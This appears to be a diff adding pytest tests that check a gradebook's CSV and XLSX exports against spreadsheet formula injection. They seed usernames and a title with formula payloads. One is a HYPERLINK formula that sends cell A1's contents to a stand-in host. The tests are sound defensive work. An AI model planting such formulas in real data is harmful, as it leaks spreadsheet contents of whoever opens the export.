@@ -0,0 +1,52 @@
+import csv
+import io
+import zipfile
+import pytest
+from config import Config
+from app import create_app, db
+from app.gradebook import export_csv, export_xlsx
+from app.models import Assignment, User
+
+PAYLOAD = '=HYPERLINK("http://example.com/?leak="&A1,"Click")'
+
+
+@pytest.fixture
+def app(tmp_path):
+    class TestConfig(Config):
+        TESTING = True
+        SQLALCHEMY_DATABASE_URI = 'sqlite:///' + str(tmp_path / 'test.db')
+        SQLITE_PROFILE = 'default'
+        JOB_WORKERS = 0
+        RATELIMIT_STORAGE = 'memory'
+        TEMPLATE_CACHE_DIR = ''
+        UPLOAD_SLOTS_FOLDER = str(tmp_path / 'upload-slots')
+
+    app = create_app(TestConfig)
+    with app.app_context():
+        db.create_all()
+        lecturer = User(username='lecturer', email='l@example.com', role=1)
+        db.session.add_all([
+            lecturer,
+            User(username=PAYLOAD, email='a@example.com', role=2),
+            User(username='-2+3', email='b@example.com', role=2),
+            User(username='plain', email='c@example.com', role=2),
+            Assignment(title='@SUM(1)', description='', totalMarks=10, asmtauthor=lecturer),
+        ])
+        db.session.commit()
+        yield app
+
+
+def test_csv_quotes_formulas(app):
+    rows = list(csv.reader(io.StringIO(''.join(export_csv()))))
+    assert rows[0][2] == "'@SUM(1) marks"
+    usernames = [row[0] for row in rows[1:]]
+    assert "'" + PAYLOAD in usernames
+    assert "'-2+3" in usernames
+    assert 'plain' in usernames
+
+
+def test_xlsx_writes_text_as_inline_strings(app):
+    with zipfile.ZipFile(io.BytesIO(b''.join(export_xlsx()))) as workbook:
+        sheet = workbook.read('xl/worksheets/sheet1.xml').decode()
+    assert '<f>' not in sheet
+    assert '<c t="inlineStr"><is><t>=HYPERLINK(' in sheet